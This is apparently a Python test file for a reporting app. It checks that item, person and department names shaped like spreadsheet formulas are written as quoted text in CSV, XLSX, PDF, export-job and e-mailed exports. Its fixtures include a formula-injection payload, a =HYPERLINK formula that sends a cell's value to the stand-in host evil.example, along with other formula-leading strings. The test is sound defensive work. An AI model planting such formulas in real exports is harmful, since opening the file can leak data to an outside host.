"""A name that starts like a formula is text in every report file: the direct exports (CSV, XLSX,
PDF), the export job's file and the e-mailed subscription's XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
import shutil
import subprocess
import time
from datetime import UTC, date, datetime
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from app.audit.services.records import Actor
from app.core.config import get_settings
from app.core.tenancy import TenantScope
from app.reports.queries import consumption as c
from app.reports.services import channels, export_jobs, exports, pdf
from app.reports.services import subscriptions as subs
from app.reports.services.periods import period_of
from tests.factories import make_account
from tests.reports.receivers import mail_server
from tests.reports.world import World, build
from tests.services import require

NOVEMBER = period_of("month", date(2026, 11, 1))
ME = Actor(account_id=None, name="导出人")
LINK = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
HOSTILE = {  # what the world's people, items and departments are renamed to
    "item": LINK,
    "item2": "@SUM(1+1)",
    "sku": "-1+1",  # shown as "SKU · unit"
    "employee_no": "-A1",
    "person": "=1+2",
    "department": "+3-4",
}


def _poison(session: Session, world: World) -> None:
    world.items[0].name = HOSTILE["item"]
    world.items[1].name = HOSTILE["item2"]
    world.items[2].sku = HOSTILE["sku"]
    world.people[0].name = HOSTILE["person"]
    world.people[1].employee_no = HOSTILE["employee_no"]
    world.departments["市场部"].name = HOSTILE["department"]
    session.flush()


def _file(session: Session, world: World, fmt: str) -> bytes:
    return exports.consumption_file(
        session=session, scope=TenantScope.single(world.tenant_id), period=NOVEMBER,
        filters=None, fmt=fmt, locale="zh-CN",
    )  # fmt: skip


def _assert_xlsx_inert(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    texts.add(cell.value)
    _assert_all_quoted(texts)


def _assert_all_quoted(texts: set[str]) -> None:
    for value in HOSTILE.values():
        assert any(text.startswith("'" + value) for text in texts), value


def test_formula_names_are_text_in_the_csv(session: Session) -> None:
    world = build(session, count=40)
    _poison(session, world)
    rows = list(csv.reader(io.StringIO(_file(session, world, "csv").decode("utf-8-sig"))))
    cells = {cell for row in rows for cell in row}
    _assert_all_quoted(cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    negative = [cell for cell in cells if cell.startswith("-")]
    assert all(_is_number(cell) for cell in negative), negative  # numbers, not neutralised text


def test_formula_names_are_text_in_the_xlsx(session: Session) -> None:
    world = build(session, count=40)
    _poison(session, world)
    _assert_xlsx_inert(_file(session, world, "xlsx"))


def test_numbers_stay_numbers_and_only_text_is_quoted() -> None:
    rows = [[LINK, -2, -1.5, date(2026, 11, 3)], ["\tTAB", 3, 0.0, date(2026, 11, 4)]]
    tables = [("表", ["名称", "数量", "金额（元）", "日期"], rows)]
    sheet = load_workbook(io.BytesIO(exports.render(tables, "xlsx", NOVEMBER, "zh-CN")))["表"]
    a2, b2, c2, d2 = sheet[2]
    assert (a2.data_type, a2.value) == ("s", "'" + LINK)
    assert (b2.data_type, b2.value) == ("n", -2) and (c2.data_type, c2.value) == ("n", -1.5)
    assert d2.value.date() == date(2026, 11, 3)
    assert sheet["A3"].value == "'\tTAB"
    rows = list(csv.reader(io.StringIO(exports.render(tables, "csv", NOVEMBER, "en").decode())))
    assert rows[2] == ["'" + LINK, "-2", "-1.5", "2026-11-03"]


def test_formula_names_are_quoted_in_the_pdf_too(session: Session, tmp_path: Path) -> None:
    """A PDF runs nothing, but its text is copied into sheets: it shows what the CSV shows."""
    require(shutil.which("pdftotext") is not None, "pdftotext (poppler-utils)")
    try:
        pdf.font()
    except Exception:
        require(False, "a CJK font (fonts-noto-cjk)")
    world = build(session, count=40)
    _poison(session, world)
    source = tmp_path / "report.pdf"
    source.write_bytes(_file(session, world, "pdf"))
    text = subprocess.run(
        ["pdftotext", str(source), "-"], check=True, capture_output=True, text=True
    ).stdout
    for value in (HOSTILE["person"], HOSTILE["item2"], HOSTILE["department"]):
        assert "'" + value in text
        assert all(not line.strip().startswith(value) for line in text.splitlines())


def test_the_export_jobs_file_is_inert(engine: Engine, monkeypatch, tmp_path: Path) -> None:
    monkeypatch.setattr(export_jobs, "exports_dir", lambda: tmp_path)
    with Session(engine) as session:
        world = build(session, count=20)
        _poison(session, world)
        account = make_account(session, "exporter", display_name="导出人", kind="tenant")
        run = export_jobs.start_export(
            session=session, scope=TenantScope.single(world.tenant_id), tenant_id=world.tenant_id,
            account_id=account.id, period=NOVEMBER, filters=c.Filters(), fmt="xlsx",
            locale="zh-CN", actor=ME,
        )  # fmt: skip
        session.commit()
        run_id = run.id
    assert export_jobs.build_export(run_id, engine) == "done"
    (made,) = tmp_path.glob(f"{run_id}-*.xlsx")
    _assert_xlsx_inert(made.read_bytes())


def test_the_subscriptions_attachment_is_inert(session: Session, monkeypatch) -> None:
    world = build(session, count=40)
    _poison(session, world)
    account = make_account(
        session, f"sub{time.monotonic_ns()}", display_name="订阅人", kind="tenant"
    )
    now = datetime(2026, 12, 1, 0, 0, tzinfo=UTC)
    with mail_server() as (url, inbox):
        settings = dataclasses.replace(get_settings(), smtp_url=url, smtp_from="reports@cc.test")
        monkeypatch.setattr(channels, "get_settings", lambda: settings)
        subs.subscribe(
            session=session, scope=TenantScope.single(world.tenant_id), tenant_id=world.tenant_id,
            account_id=account.id, actor=ME, now=datetime(2026, 11, 27, 2, 0, tzinfo=UTC),
            spec=subs.SubscriptionSpec(kind="month", channel="email", target="boss@example.cn"),
        )  # fmt: skip
        subs.generate_due(session=session, now=now)
        (delivery_id,) = subs.due_deliveries(session=session, now=now)
        assert subs.deliver(session=session, delivery_id=delivery_id, now=now) == "sent"
    ((_, _, mail),) = inbox.messages
    (attachment,) = [p for p in mail.walk() if p.get_filename()]
    _assert_xlsx_inert(attachment.get_payload(decode=True))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
